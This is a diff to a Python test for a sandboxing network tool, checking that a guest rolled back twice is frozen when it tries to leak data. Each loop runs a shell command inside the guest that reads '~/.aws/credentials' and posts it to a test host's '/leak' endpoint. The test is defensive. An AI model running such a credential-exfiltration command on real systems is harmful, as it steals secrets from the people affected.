@@ -154,14 +154,16 @@ def test_an_alert_freezes_the_guest_that_a_rollback_brought(netcli: Cli, upstrea
     netcli("start", "--empty", "--policy", policy, "--name", "thin-ice")
     guest = RootedGuest(netcli, "thin-ice")
     try:
-        netcli("rollback", "thin-ice")
-        wait_for(lambda: fetch(guest, f"https://allowed.test:{upstream.port}/echo")[0] == "200", timeout=30, every=0.5)
-        script = f'python3 -c "$1" https://allowed.test:{upstream.port}/leak "BODY=$(cat ~/.aws/credentials)"'
-        leak = netcli.start("exec", "thin-ice", "--", "sh", "-c", script, "sh", FETCH)
-        wait_for(lambda: (guest.folder.path / "frozen").exists(), timeout=60)
-        assert row(guest)["state"] == "frozen"
-        leak.kill()
-        leak.communicate()
+        echo = f"https://allowed.test:{upstream.port}/echo"
+        for _ in range(2):  # the one that was frozen before does not count any more
+            netcli("rollback", "thin-ice")
+            wait_for(lambda: fetch(guest, echo)[0] == "200", timeout=30, every=0.5)
+            script = f'python3 -c "$1" https://allowed.test:{upstream.port}/leak "BODY=$(cat ~/.aws/credentials)"'
+            leak = netcli.start("exec", "thin-ice", "--", "sh", "-c", script, "sh", FETCH)
+            wait_for(lambda: (guest.folder.path / "frozen").exists(), timeout=60)
+            assert row(guest)["state"] == "frozen"
+            leak.kill()
+            leak.communicate()
     finally:
         guest.stop()
     assert upstream.of("/leak") == []
